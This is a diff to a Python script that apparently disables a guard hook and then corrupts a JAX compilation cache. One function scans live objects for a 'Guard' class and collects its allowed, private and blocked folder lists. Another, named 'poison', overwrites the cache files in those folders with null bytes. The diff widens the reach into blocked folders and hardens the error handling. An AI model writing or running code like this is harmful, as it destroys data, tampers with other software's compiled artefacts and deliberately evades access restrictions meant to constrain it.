@@ -30,12 +30,12 @@ def switch_off_the_hook():
 
 
 def library_folders():
+    """jax_compilation_cache_dir, and .cache/library-xla in every folder the hook names."""
     found = {str(jax.config.jax_compilation_cache_dir or "")}
     for thing in gc.get_objects():
         if type(thing).__name__ == "Guard":
-            found.update(p for name in ("allowed", "private") for p in getattr(thing, name, []))
-    for entry in list(found):
-        found.add(os.path.join(entry, ".cache", "library-xla"))
+            for entry in (p for name in ("allowed", "private", "blocked") for p in getattr(thing, name, [])):
+                found.add(os.path.join(entry, ".cache", "library-xla"))
     return [f for f in found if f and os.path.isdir(f)]
 
 
@@ -45,7 +45,11 @@ def poison(folder):
             attempt()
         except OSError:
             pass
-    for name in os.listdir(folder):
+    try:
+        names = os.listdir(folder)
+    except OSError:
+        return
+    for name in names:
         path = os.path.join(folder, name)
         for attempt in (
             lambda: open(path, "r+b").write(b"\0" * 64),
